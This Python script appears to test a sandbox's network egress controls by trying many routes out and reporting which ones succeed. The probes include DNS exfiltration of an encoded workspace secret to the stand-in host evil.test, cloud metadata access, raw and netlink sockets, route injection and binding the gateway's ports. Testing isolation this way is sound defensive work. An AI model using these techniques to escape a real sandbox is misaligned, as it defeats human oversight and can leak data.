# Tries every way out of a list of hosts, and prints those that led out.
import base64, errno, json, os, socket, struct, sys

victim, http = int(sys.argv[1]), int(sys.argv[2])
out = {}


def tries(name, attempt):
    try:
        got = attempt()
    except OSError:
        return
    if got:
        out[name] = str(got)


def tcp(host, port, family=socket.AF_INET, data=b"GET / HTTP/1.0\r\n\r\n"):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect((host, port))
        s.sendall(data)
        return s.recv(100)


def ask(name, kind, server="198.18.0.1", flags=0x0100):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b"."))
    query = struct.pack(">HHHHHH", 7, flags, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.sendto(query, (server, 53))
        answer = s.recv(512)
        code, answers = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
        return answers if code == 0 and answers else None


# DNS as a channel
secret = base64.b32encode(b"the secret of this workspace").decode().strip("=").lower()
for kind in (1, 28, 16, 15, 255):
    tries(f"dns {kind}", lambda: ask(f"{secret}.evil.test", kind))
    tries(f"dns listed {kind}", lambda: kind != 1 and ask("api.test", kind))
tries("dns long", lambda: ask(".".join(["a" * 63] * 3) + ".test", 1))
for server in ("8.8.8.8", "127.0.0.1", "127.0.0.53", "169.254.169.254"):
    tries(f"dns at {server}", lambda: ask("api.test", 1, server))
tries("dns over tcp", lambda: tcp("198.18.0.1", 53))

# addresses in place of names
for host in ("127.0.0.1", "0.0.0.0", "169.254.169.254", "10.0.0.1", "198.18.200.7", "198.19.0.1", "1.1.1.1"):
    for port in (80, 443, 5432, victim, http):
        tries(f"{host}:{port}", lambda: tcp(host, port))
for host in ("::1", "::ffff:127.0.0.1", "::ffff:1.1.1.1", "::ffff:198.18.200.7", "fd00:ec2::254", "2606:4700::1111"):
    for port in (80, 443, victim):
        tries(f"{host}:{port}", lambda: tcp(host, port, socket.AF_INET6))
# a listed name, and a port that it has not
tries("other port", lambda: tcp(socket.gethostbyname("api.test"), victim))
tries("port of another entry", lambda: tcp(socket.gethostbyname("db.test"), 80))

# other protocols
def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.1)
        s.sendto(b"quic", (host, port))
        return s.recv(100)


for host in ("127.0.0.1", "1.1.1.1", socket.gethostbyname("api.test")):
    for port in (443, 123, victim):
        tries(f"udp {host}:{port}", lambda: udp(host, port))


def opens(family, kind, protocol=0):
    with socket.socket(family, kind, protocol) as s:
        return "open"


tries("raw", lambda: opens(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
tries("raw6", lambda: opens(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
tries("packet", lambda: opens(socket.AF_PACKET, socket.SOCK_RAW, 3))
tries("vsock", lambda: opens(40, socket.SOCK_STREAM))


def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(0.3)
        s.sendto(b"\x08\x00\x00\x00\x00\x00\x00\x00", (host, 0))
        return s.recv(100)


tries("icmp", lambda: ping("1.1.1.1"))

# the gate's own ports, and a route of one's own
def take(port):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind(("198.18.0.2", port))
        s.listen(1)
        return "taken"


for port in (53, 80, 443):
    tries(f"port {port}", lambda: take(port))


def route():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        place = struct.pack("=HH4s", 8, 2, socket.inet_aton("10.1.2.3"))
        body = struct.pack("=BBBBI", 2, 8, 0, 0, 1) + place
        s.send(struct.pack("=IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)
        answer = s.recv(4096)
        return struct.unpack("=i", answer[16:20])[0] == 0 and "address added"


tries("netlink", route)

# sockets that were handed over, and those of the host
links = []
for name in os.listdir("/proc/self/fd"):
    try:
        links.append(os.readlink(f"/proc/self/fd/{name}"))
    except OSError:
        pass
for link in links:
    if link.startswith("socket:") or link.startswith("anon_inode"):
        out["descriptor"] = link
with open("/proc/net/unix") as listed:
    for line in listed.read().splitlines()[1:]:
        if line.split()[-1].startswith("@"):
            out["abstract"] = line

print(json.dumps(out))
